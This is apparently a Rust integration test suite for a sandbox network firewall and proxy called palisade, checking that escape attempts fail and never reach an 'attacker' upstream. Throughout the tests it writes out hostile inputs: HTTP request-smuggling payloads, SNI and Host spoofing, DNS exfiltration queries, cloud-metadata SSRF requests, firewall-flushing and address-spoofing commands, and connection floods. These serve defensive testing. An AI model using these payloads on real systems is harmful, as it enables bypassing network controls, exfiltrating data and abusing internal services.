//! The cases of shared/threats.md that need no TLS interception, each run from inside a sandbox
//! against the testbed's upstreams. A case passes only if the client fails AND the upstream that
//! should not be reached saw nothing. Runs as root.

mod common;

use std::time::Duration;

use common::{Bed, show, stderr, stdout};
use palisade_testbed::addrs;

fn custom(domains: &[&str]) -> String {
    let list: Vec<String> = domains.iter().map(|d| format!("\"{d}\"")).collect();
    format!(
        r#"{{"mode":"custom","allow_domains":[{}]}}"#,
        list.join(",")
    )
}

/// A raw exchange over TCP from the sandbox: sends `payload` (Python bytes literal), prints the
/// reply.
fn raw_tcp(host: &str, port: u16, payload: &str) -> String {
    format!(
        r#"python3 -c '
import socket, sys
s = socket.create_connection(("{host}", {port}), timeout=3)
s.sendall({payload})
s.shutdown(socket.SHUT_WR)
out = b""
try:
    while True:
        d = s.recv(65536)
        if not d: break
        out += d
except Exception as e:
    out += ("ERR " + type(e).__name__).encode()
sys.stdout.write(out.decode("latin-1"))
'"#
    )
}

#[test]
fn t01_sni_sent_to_attacker_address_goes_to_the_real_host() {
    let bed = Bed::new();
    let sb = bed.sandbox(&custom(&["alpha.test"]));
    let out = sb.curl(&format!(
        "--resolve alpha.test:443:{} https://alpha.test/",
        addrs::ATTACKER_V4
    ));
    assert!(out.status.success(), "{}", show(&out));
    assert!(
        stdout(&out).contains("\"server\":\"good\""),
        "{}",
        show(&out)
    );
    bed.world.assert_untouched("attacker");
}

#[test]
fn t02_host_sent_to_attacker_address_goes_to_the_real_host() {
    let bed = Bed::new();
    let sb = bed.sandbox(&custom(&["alpha.test"]));
    let out = sb.curl(&format!(
        "-H 'Host: alpha.test' http://{}/x",
        addrs::ATTACKER_V4
    ));
    assert!(out.status.success(), "{}", show(&out));
    assert!(
        stdout(&out).contains("\"server\":\"good\""),
        "{}",
        show(&out)
    );
    bed.world.assert_untouched("attacker");
}

#[test]
fn t04_keep_alive_cannot_switch_to_a_denied_host() {
    let bed = Bed::new();
    let sb = bed.sandbox(&custom(&["alpha.test"]));
    let out = sb.sh(&raw_tcp(
        "alpha.test",
        80,
        r#"b"GET /one HTTP/1.1\r\nHost: alpha.test\r\n\r\nGET /two HTTP/1.1\r\nHost: evil.test\r\n\r\n""#,
    ));
    let text = stdout(&out);
    assert!(text.contains("HTTP/1.1 200"), "{}", show(&out));
    assert!(text.contains("HTTP/1.1 403"), "{}", show(&out));
    assert!(text.contains("denies evil.test"), "{}", show(&out));
    bed.world.assert_untouched("attacker");
    assert!(
        !bed.world.log().render().contains("/two"),
        "{}",
        bed.world.log().render()
    );
}

#[test]
fn t06_absolute_form_userinfo_and_ports() {
    let bed = Bed::new();
    let sb = bed.sandbox(&custom(&["alpha.test"]));
    let cases = [
        r#"b"GET http://evil.test/ HTTP/1.1\r\nHost: alpha.test\r\n\r\n""#,
        r#"b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n""#,
        r#"b"GET http://alpha.test@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n""#,
        r#"b"GET / HTTP/1.1\r\nHost: alpha.test@evil.test\r\n\r\n""#,
        r#"b"GET / HTTP/1.1\r\nHost: alpha.test:8080\r\n\r\n""#,
        r#"b"GET / HTTP/1.1\r\nHost: alpha.test\r\nHost: evil.test\r\n\r\n""#,
        r#"b"GET / HTTP/1.1\r\n\r\n""#,
    ];
    for case in cases {
        let out = sb.sh(&raw_tcp("alpha.test", 80, case));
        let text = stdout(&out);
        assert!(
            text.starts_with("HTTP/1.1 400")
                || text.starts_with("HTTP/1.1 403")
                || text.is_empty()
                || text.starts_with("ERR"),
            "{case}: {}",
            show(&out)
        );
    }
    bed.world.assert_untouched("attacker");
    assert!(
        bed.world.log().for_server("good").is_empty(),
        "{}",
        bed.world.log().render()
    );
}

#[test]
fn t07_connect_and_h2c_upgrade_are_refused() {
    let bed = Bed::new();
    let sb = bed.sandbox(&custom(&["alpha.test"]));
    let out = sb.sh(&raw_tcp(
        "alpha.test",
        80,
        r#"b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n""#,
    ));
    assert!(stdout(&out).starts_with("HTTP/1.1 405"), "{}", show(&out));
    let out = sb.sh(&raw_tcp(
        "alpha.test",
        80,
        r#"b"GET / HTTP/1.1\r\nHost: alpha.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n""#,
    ));
    assert!(stdout(&out).starts_with("HTTP/1.1 400"), "{}", show(&out));
    bed.world.assert_untouched("attacker");
}

#[test]
fn t08_t09_wildcards_case_and_trailing_dot() {
    let bed = Bed::new();
    let sb = bed.sandbox(&custom(&["*.wild.test", "alpha.test"]));
    for ok in [
        "https://x.wild.test/",
        "https://A.B.WILD.TEST/",
        "https://ALPHA.test./",
    ] {
        let out = sb.curl(ok);
        assert!(out.status.success(), "{ok}: {}", show(&out));
    }
    bed.world
        .dns()
        .set_a("evilwild.test", &[addrs::ATTACKER_V4]);
    bed.world
        .dns()
        .set_a("wild.test.evil.test", &[addrs::ATTACKER_V4]);
    for bad in ["wild.test", "evilwild.test", "wild.test.evil.test"] {
        let out = sb.curl(&format!(
            "--resolve {bad}:443:{} https://{bad}/",
            addrs::ATTACKER_V4
        ));
        assert!(!out.status.success(), "{bad}: {}", show(&out));
    }
    bed.world.assert_untouched("attacker");
}

#[test]
fn t10_malformed_and_missing_names_are_denied() {
    let bed = Bed::new();
    let sb = bed.sandbox(&custom(&["alpha.test"]));
    // No SNI at all, and an IP literal as the name.
    let out = sb.sh(&format!(
        "echo | timeout 5 openssl s_client -noservername -connect {}:443 2>&1",
        addrs::ATTACKER_V4
    ));
    assert!(
        !stdout(&out).contains("BEGIN CERTIFICATE"),
        "{}",
        show(&out)
    );
    let out = sb.sh(&format!(
        "echo | timeout 5 openssl s_client -servername {0} -connect {0}:443 2>&1",
        addrs::ATTACKER_V4
    ));
    assert!(
        !stdout(&out).contains("BEGIN CERTIFICATE"),
        "{}",
        show(&out)
    );
    // Host with an IP literal, NUL bytes, an over-long label.
    let long = "a".repeat(64);
    for payload in [
        format!(
            r#"b"GET / HTTP/1.1\r\nHost: {}\r\n\r\n""#,
            addrs::ATTACKER_V4
        ),
        r#"b"GET / HTTP/1.1\r\nHost: alpha.test\x00.evil.test\r\n\r\n""#.to_owned(),
        format!(r#"b"GET / HTTP/1.1\r\nHost: {long}.test\r\n\r\n""#),
    ] {
        let out = sb.sh(&raw_tcp(&addrs::ATTACKER_V4.to_string(), 80, &payload));
        assert!(
            !stdout(&out).contains("HTTP/1.1 200"),
            "{payload}: {}",
            show(&out)
        );
    }
    bed.world.assert_untouched("attacker");
}

#[test]
fn t11_names_resolving_to_internal_addresses_are_refused() {
    let bed = Bed::new();
    let names = ["private.test", "metadata.test", "loop.test", "cgnat.test"];
    for policy in [custom(&names), r#"{"mode":"allow-all"}"#.to_owned()] {
        let sb = bed.sandbox(&policy);
        for name in names {
            let out = sb.curl(&format!("http://{name}/"));
            assert!(
                !stdout(&out).contains("\"server\""),
                "{policy} {name}: {}",
                show(&out)
            );
            // Knowing the address does not help either.
            let out = sb.curl(&format!(
                "--resolve {name}:80:{} http://{name}/",
                addrs::METADATA_V4
            ));
            assert!(
                !stdout(&out).contains("\"server\""),
                "{policy} {name}: {}",
                show(&out)
            );
            let out = sb.curl(&format!("http://{}/latest/meta-data/", addrs::METADATA_V4));
            assert!(
                !stdout(&out).contains("\"server\""),
                "{policy}: {}",
                show(&out)
            );
        }
    }
    bed.world.assert_untouched("private");
    bed.world.assert_untouched("metadata");
    // Inside allow_cidrs the private host is reachable.
    let sb = bed.sandbox(&format!(
        r#"{{"mode":"custom","allow_domains":["private.test"],"allow_cidrs":["{}/32"]}}"#,
        addrs::PRIVATE_V4
    ));
    let out = sb.curl("http://private.test/");
    assert!(
        stdout(&out).contains("\"server\":\"private\""),
        "{}",
        show(&out)
    );
}

#[test]
fn t12_gateway_and_other_sandboxes_are_unreachable() {
    let bed = Bed::new();
    let a = bed.sandbox(r#"{"mode":"allow-all"}"#);
    let b = bed.sandbox(r#"{"mode":"allow-all"}"#);
    let gw = a.gateway();
    for port in [22, 80, common::PROXY_PORT, common::DNS_PORT, 8080] {
        // Refused, or answered by the proxy itself with its explanatory 403; never a service.
        let (out, took) = a.timed(&format!("curl -sS --max-time 3 http://{gw}:{port}/"));
        assert!(
            !out.status.success()
                || stdout(&out).starts_with("palisade: the sandbox network policy denies"),
            "gateway port {port}: {}",
            show(&out)
        );
        assert!(
            took < Duration::from_secs(2),
            "gateway port {port} took {took:?}"
        );
    }
    let (out, _) = a.timed(&format!("ping -c 1 -W 1 {gw}"));
    assert!(!out.status.success(), "{}", show(&out));
    // B listens; A cannot connect to it.
    let listener = std::process::Command::new("ip")
        .args([
            "netns",
            "exec",
            &b.net.netns,
            "timeout",
            "5",
            "nc",
            "-l",
            "9000",
        ])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(200));
    let out = a.sh(&format!("printf 'hello-b' | nc -N -w 2 {} 9000", b.addr()));
    let got = listener.wait_with_output().unwrap();
    assert!(
        !String::from_utf8_lossy(&got.stdout).contains("hello-b"),
        "{}",
        show(&out)
    );
}

#[test]
fn t13_ipv6_goes_nowhere() {
    let bed = Bed::new();
    let sb = bed.sandbox(r#"{"mode":"allow-all"}"#);
    let (out, took) = sb.timed(&format!(
        "curl -sS --max-time 3 http://[{}]/",
        addrs::V6_HOST
    ));
    assert!(!out.status.success(), "{}", show(&out));
    assert!(took < Duration::from_secs(2));
    let out = sb.curl("-6 http://v6only.test/");
    assert!(!out.status.success(), "{}", show(&out));
    bed.world.assert_untouched("v6");
}

#[test]
fn t14_denied_names_never_reach_the_upstream_resolver() {
    let bed = Bed::new();
    let sb = bed.sandbox(&custom(&["alpha.test"]));
    for (i, qtype) in ["A", "AAAA", "TXT", "MX", "HTTPS", "ANY"]
        .iter()
        .enumerate()
    {
        for transport in ["", "+tcp"] {
            let name = format!("secret{i}{}.exfil.test", transport.len());
            let out = sb.sh(&format!("dig {transport} +tries=1 +time=2 {name} {qtype}"));
            assert!(stdout(&out).contains("status:"), "{}", show(&out));
        }
    }
    let queries = bed.world.log().dns_queries();
    assert!(
        queries.iter().all(|q| !q.name.contains("exfil")),
        "{queries:?}"
    );
}

#[test]
fn t15_other_resolvers_and_dot_are_not_reachable() {
    let bed = Bed::new();
    let sb = bed.sandbox(&custom(&["alpha.test"]));
    // Port 53 anywhere is the firewall's resolver: the answer is the sandbox's synthetic
    // address for the name (issue 11.4), which only the firewall hands out.
    let out = sb.sh(&format!(
        "dig @{} +short +tries=1 +time=2 alpha.test A",
        addrs::ATTACKER_V4
    ));
    let answer: std::net::Ipv4Addr = stdout(&out).trim().parse().expect("one address");
    assert!(
        palisade_firewall::config::SyntheticConfig::default()
            .range
            .contains(&answer),
        "{}",
        show(&out)
    );
    let out = sb.sh(&format!(
        "dig @{} +tcp +tries=1 +time=2 evil.test A",
        addrs::ATTACKER_V4
    ));
    assert!(stdout(&out).contains("NXDOMAIN"), "{}", show(&out));
    // DNS over TLS to a host that is not allowed.
    let (out, took) = sb.timed(&format!(
        "echo | timeout 5 openssl s_client -connect {}:853 -servername dns.evil.test 2>&1",
        addrs::ATTACKER_V4
    ));
    assert!(
        !stdout(&out).contains("BEGIN CERTIFICATE"),
        "{}",
        show(&out)
    );
    assert!(took < Duration::from_secs(2));
    bed.world.assert_untouched("attacker");
}

#[test]
fn t16_udp_quic_and_icmp_only_to_allow_cidrs() {
    let bed = Bed::new();
    let sb = bed.sandbox(&custom(&["alpha.test"]));
    let _ = sb.sh(&format!(
        "printf 'quic-initial' | nc -u -w 1 {} 443",
        addrs::ATTACKER_V4
    ));
    let _ = sb.sh(&format!(
        "printf 'ntp' | nc -u -w 1 {} 123",
        addrs::ATTACKER_V4
    ));
    let out = sb.sh(&format!("ping -c 1 -W 1 {}", addrs::ATTACKER_V4));
    assert!(!out.status.success(), "{}", show(&out));
    let out = sb.sh(&format!("printf 'echo' | nc -u -w 1 {} 7", addrs::TCP_V4));
    assert!(stdout(&out).is_empty(), "{}", show(&out));
    bed.world.assert_untouched("attacker");
    bed.world.assert_untouched("tcp");

    let open = bed.sandbox(&format!(
        r#"{{"mode":"custom","allow_cidrs":["{}/32"]}}"#,
        addrs::TCP_V4
    ));
    let out = open.sh(&format!("ping -c 1 -W 2 {}", addrs::TCP_V4));
    assert!(out.status.success(), "{}", show(&out));
}

#[test]
fn t17_nameless_protocols_need_a_cidr_or_a_name_binding() {
    let bed = Bed::new();
    let sb = bed.sandbox(&custom(&["tcp.test"]));
    // Straight to the address, with no DNS answer behind it: denied.
    let out = sb.sh(&format!("printf 'direct' | nc -N -w 2 {} 7", addrs::TCP_V4));
    assert!(stdout(&out).is_empty(), "{}", show(&out));
    // Through the address the firewall's DNS answered for the allowed name (a synthetic one,
    // mapped back to the name): allowed.
    let out = sb.sh("printf 'bound' | nc -N -w 2 tcp.test 7");
    assert_eq!(stdout(&out), "bound", "{}", show(&out));
    // The real address stays closed after the name was resolved (issue 11.4: it was open).
    let out = sb.sh(&format!("printf 'real' | nc -N -w 2 {} 7", addrs::TCP_V4));
    assert!(stdout(&out).is_empty(), "{}", show(&out));
    assert_eq!(bed.world.log().bytes_received("tcp"), b"bound");
    // A server-speaks-first protocol works too.
    let out = sb.sh("timeout 3 nc -w 2 tcp.test 22 </dev/null");
    assert!(
        stdout(&out).starts_with("SSH-2.0-testbed"),
        "{}",
        show(&out)
    );
    // An attacker's service on an unknown address: denied.
    for port in [22u16, 5432, 25] {
        let out = sb.sh(&format!(
            "printf 'x' | nc -N -w 2 {} {port}",
            addrs::ATTACKER_V4
        ));
        assert!(stdout(&out).is_empty(), "{}", show(&out));
    }
    bed.world.assert_untouched("attacker");
    let events = bed.fw.events().recent(Some(&sb.id), 100);
    assert!(
        events
            .iter()
            .any(|e| e.rule.to_string() == "dns-bound:tcp.test"),
        "{events:?}"
    );
}

#[test]
fn t18_client_hello_split_over_segments_still_decides() {
    let bed = Bed::new();
    let sb = bed.sandbox(&custom(&["alpha.test"]));
    // python's TLS through a socket that sends the ClientHello a few bytes at a time.
    let script = format!(
        r#"python3 -c '
import socket, ssl, time
ctx = ssl.create_default_context(cafile="{ca}")
raw = socket.create_connection(("{ip}", 443), timeout=5)
inb, outb = ssl.MemoryBIO(), ssl.MemoryBIO()
obj = ctx.wrap_bio(inb, outb, server_hostname="alpha.test")
try:
    obj.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = outb.read()
for i in range(0, len(hello), 7):
    raw.sendall(hello[i:i+7]); time.sleep(0.002)
s = ctx.wrap_socket(socket.create_connection(("alpha.test", 443), timeout=5), server_hostname="alpha.test")
print("split-ok", len(hello) > 100)
'"#,
        ca = sb.ca_path(),
        ip = addrs::ATTACKER_V4
    );
    let out = sb.sh(&script);
    assert!(stdout(&out).contains("split-ok True"), "{}", show(&out));
    bed.world.assert_untouched("attacker");
    // The split hello to the attacker's address was dialled to the real host instead.
    assert!(bed.world.wait_for(Duration::from_secs(3), |log| {
        log.iter()
            .filter(|e| e.server == "good" && e.detail.contains("alpha.test"))
            .count()
            >= 2
    }));
    // Garbage that starts like TLS but lies about its length is reset.
    let out = sb.sh(&format!(
        r#"python3 -c '
import socket
s = socket.create_connection(("{}", 443), timeout=3)
try:
    s.sendall(bytes([0x16, 3, 1, 0xff, 0xff, 1, 0, 0, 1, 3, 3]) + b"\x00" * 300)
    s.shutdown(socket.SHUT_WR)
    print(len(s.recv(100)))
except Exception as e:
    print(type(e).__name__)
'"#,
        addrs::ATTACKER_V4
    ));
    assert!(!stdout(&out).trim().is_empty(), "{}", show(&out));
    bed.world.assert_untouched("attacker");
}

#[test]
fn t19_smuggling_shapes_get_400_on_plain_http() {
    let bed = Bed::new();
    // A transform on the plain path too, so a forwarded request would carry the secret.
    let sb = bed.sandbox(
        r#"{"mode":"custom","allow_domains":["alpha.test"],"transforms":[{"domain":"alpha.test",
            "inject_headers":{"Authorization":"Bearer sk-plain-SECRET"}}]}"#,
    );
    bed.world.log().clear();
    let h = r"Host: alpha.test\r\n";
    let smuggled = r"GET /smuggled HTTP/1.1\r\nHost: alpha.test\r\n\r\n";
    let cases = [
        format!(
            r"POST /clte HTTP/1.1\r\n{h}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}"
        ),
        format!(
            r"POST /tecl HTTP/1.1\r\n{h}Transfer-Encoding: chunked\r\nContent-Length: 60\r\n\r\n0\r\n\r\n{smuggled}"
        ),
        format!(
            r"POST /dupcl HTTP/1.1\r\n{h}Content-Length: 0\r\nContent-Length: 48\r\n\r\n{smuggled}"
        ),
        format!(
            r"POST /badchunk HTTP/1.1\r\n{h}Transfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n{smuggled}"
        ),
        format!(r"GET /barelf HTTP/1.1\nHost: alpha.test\n\n{smuggled}"),
        format!(r"GET /fold HTTP/1.1\r\n{h}X-A: a\r\n b\r\n\r\n{smuggled}"),
        format!(
            r"POST /tegzip HTTP/1.1\r\n{h}Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n{smuggled}"
        ),
    ];
    for raw in &cases {
        // As the first request, the sniffer that decides the connection refuses the head
        // itself or the framing guard does: one 400 that says why, nothing served.
        let out = sb.sh(&raw_tcp("alpha.test", 80, &format!("b\"{raw}\"")));
        let text = stdout(&out);
        assert!(text.starts_with("HTTP/1.1 400"), "{raw}: {}", show(&out));
        assert!(text.contains("palisade: "), "{raw}: {text}");
        assert_eq!(text.matches("HTTP/1.1 ").count(), 1, "{raw}: {text}");
        // Later on a keep-alive connection, only the framing guard sees it: 400 and close.
        let first = r"GET /first HTTP/1.1\r\nHost: alpha.test\r\n\r\n";
        let out = sb.sh(&raw_tcp("alpha.test", 80, &format!("b\"{first}{raw}\"")));
        let text = stdout(&out);
        assert!(text.starts_with("HTTP/1.1 200"), "{raw}: {}", show(&out));
        let second = text.split("HTTP/1.1 ").nth(2).unwrap_or_default();
        assert!(second.starts_with("400"), "{raw}: {text}");
        assert_eq!(text.matches("HTTP/1.1 ").count(), 2, "{raw}: {text}");
    }
    // A chunk that breaks after the head went upstream: 400, not 502.
    let out = sb.sh(
        r#"python3 -c '
import socket, sys, time
s = socket.create_connection(("alpha.test", 80), timeout=5)
s.sendall(b"POST /late HTTP/1.1\r\nHost: alpha.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n")
time.sleep(0.5)
s.sendall(b"zz\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: alpha.test\r\n\r\n")
out = b""
try:
    while True:
        d = s.recv(65536)
        if not d: break
        out += d
except Exception as e:
    out += ("ERR " + type(e).__name__).encode()
sys.stdout.write(out.decode("latin-1"))
'"#,
    );
    let text = stdout(&out);
    assert!(text.starts_with("HTTP/1.1 400"), "{}", show(&out));
    assert!(text.contains("request body is malformed"), "{text}");
    let log = bed.world.log().render();
    assert!(!log.contains("smuggled"), "{log}");
    for p in [
        "/clte",
        "/tecl",
        "/dupcl",
        "/badchunk",
        "/barelf",
        "/fold",
        "/tegzip",
    ] {
        assert!(!log.contains(p), "{p} reached the upstream: {log}");
    }
    // The secret went only with the valid first requests and the one head that was forwarded
    // before its body broke.
    for e in bed.world.log().entries() {
        if e.detail.contains("sk-plain-SECRET") {
            assert!(
                e.detail.contains("/first") || e.detail.contains("/late"),
                "{}",
                e.detail
            );
        }
    }
    bed.world.assert_untouched("attacker");
}

#[test]
fn t21_root_in_the_sandbox_cannot_undo_enforcement() {
    let bed = Bed::new();
    let sb = bed.sandbox(&custom(&["alpha.test"]));
    let gw = sb.gateway();
    let _ = sb.sh(&format!(
        "nft flush ruleset; ip route replace default via {gw}; ip route add {}/32 via {gw}; \
         unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY; true",
        addrs::ATTACKER_V4
    ));
    let out = sb.sh(&format!(
        "curl -sS --max-time 3 http://{}/",
        addrs::ATTACKER_V4
    ));
    assert!(!stdout(&out).contains("attacker"), "{}", show(&out));
    // Spoofing another source address is dropped before it reaches anything.
    let _ = sb.sh(&format!(
        "ip addr add 100.96.15.250/32 dev eth0; curl -sS --max-time 2 --interface 100.96.15.250 http://{}/ ; true",
        addrs::ATTACKER_V4
    ));
    bed.world.assert_untouched("attacker");
    let out = sb.curl("https://alpha.test/");
    assert!(out.status.success(), "{}", show(&out));
}

#[test]
fn t22_silent_and_slow_clients_are_bounded() {
    let bed = Bed::new();
    let slow = bed.sandbox(&custom(&["alpha.test"]));
    let other = bed.sandbox(&custom(&["alpha.test"]));
    // 50 connections that send nothing, and one that trickles a byte at a time.
    let script = format!(
        r#"python3 -c '
import socket, time
socks = [socket.create_connection(("{ip}", 443), timeout=5) for _ in range(50)]
t = socket.create_connection(("{ip}", 443), timeout=5)
start = time.time()
closed = 0
try:
    for b in b"\x16\x03\x01\x02\x00" + b"\x01" * 400:
        t.send(bytes([b])); time.sleep(0.05)
        if time.time() - start > 8: break
except OSError:
    closed = 1
for s in socks:
    s.settimeout(4)
    try:
        if s.recv(1) == b"": closed += 1
    except ConnectionResetError:
        closed += 1
    except socket.timeout:
        pass
print("closed", closed, "after", round(time.time() - start, 1))
'"#,
        ip = addrs::GOOD_V4
    );
    let handle = std::thread::scope(|scope| {
        let h = scope.spawn(|| slow.sh(&script));
        std::thread::sleep(Duration::from_millis(500));
        let out = other.curl("https://alpha.test/");
        assert!(
            out.status.success(),
            "other sandbox while one is slow: {}",
            show(&out)
        );
        h.join().unwrap()
    });
    let text = stdout(&handle);
    assert!(
        text.starts_with("closed 51") || text.starts_with("closed 50"),
        "{}",
        show(&handle)
    );
}

#[test]
fn t23_connection_caps_protect_other_sandboxes() {
    let bed = Bed::new();
    let greedy = bed.sandbox(r#"{"mode":"allow-all"}"#);
    let other = bed.sandbox(r#"{"mode":"allow-all"}"#);
    let script = format!(
        r#"python3 -c '
import socket, time
socks, refused = [], 0
for i in range(1100):
    try:
        s = socket.create_connection(("{ip}", 7), timeout=3)
        s.sendall(b"x"); socks.append(s)
    except OSError:
        refused += 1
time.sleep(0.5)
alive = 0
for s in socks:
    s.settimeout(0.5)
    try:
        if s.recv(1) == b"x": alive += 1
    except OSError:
        pass
print("alive", alive, "refused", refused)
'"#,
        ip = addrs::TCP_V4
    );
    let out = greedy.sh(&format!("ulimit -n 4096; {script}"));
    let text = stdout(&out);
    let alive: usize = text
        .split_whitespace()
        .nth(1)
        .and_then(|n| n.parse().ok())
        .unwrap_or(usize::MAX);
    assert!(alive <= 1024, "{}", show(&out));
    let out = other.sh(&format!("printf 'fine' | nc -N -w 3 {} 7", addrs::TCP_V4));
    assert_eq!(stdout(&out), "fine", "{}", show(&out));
    // Huge request heads are refused without harming the proxy.
    let out = greedy.sh(&format!(
        r#"python3 -c '
import socket
s = socket.create_connection(("{}", 80), timeout=5)
try:
    s.sendall(b"GET / HTTP/1.1\r\nHost: echo.test\r\nX-Big: " + b"a" * 200000 + b"\r\n\r\n")
    print(s.recv(100)[:12])
except OSError as e:
    print("closed", type(e).__name__)
'"#,
        addrs::ECHO_V4
    ));
    assert!(!stdout(&out).contains("200"), "{}", show(&out));
    let _ = stderr(&out);
}

#[test]
fn t25_switching_to_deny_all_closes_open_tunnels() {
    use std::io::{BufRead, BufReader};
    let bed = Bed::new();
    let sb = bed.sandbox(r#"{"mode":"allow-all"}"#);
    let script = format!(
        r#"
import socket, sys, time
s = socket.create_connection(("{ip}", 7), timeout=10)
s.sendall(b"before"); print(s.recv(100).decode(), flush=True)
sys.stdin.readline()
try:
    s.sendall(b"after")
    d = s.recv(100)
    print("got", d, flush=True)
except OSError as e:
    print("closed", type(e).__name__, flush=True)
"#,
        ip = addrs::TCP_V4
    );
    let mut child = std::process::Command::new("timeout")
        .args([
            "-s",
            "KILL",
            "20",
            "ip",
            "netns",
            "exec",
            &sb.net.netns,
            "python3",
            "-c",
            &script,
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    assert_eq!(lines.next().unwrap().unwrap(), "before");
    // The tunnel is open and has carried data; now the policy changes under it.
    sb.set_policy(r#"{"mode":"deny-all"}"#, 2);
    std::thread::sleep(Duration::from_millis(300));
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(b"go\n").unwrap();
    }
    let rest: Vec<String> = lines.map_while(Result::ok).collect();
    let _ = child.wait();
    assert!(rest.iter().all(|l| !l.contains("after")), "{rest:?}");
    assert!(
        rest.iter()
            .any(|l| l.starts_with("closed") || l == "got b''"),
        "{rest:?}"
    );
    let received = bed.world.log().bytes_received("tcp");
    assert!(
        !String::from_utf8_lossy(&received).contains("after"),
        "{}",
        bed.world.log().render()
    );
    let events = bed.fw.events().recent(Some(&sb.id), 50);
    assert!(
        events
            .iter()
            .any(|e| e.reason.contains("new policy denies")),
        "{events:?}"
    );
}
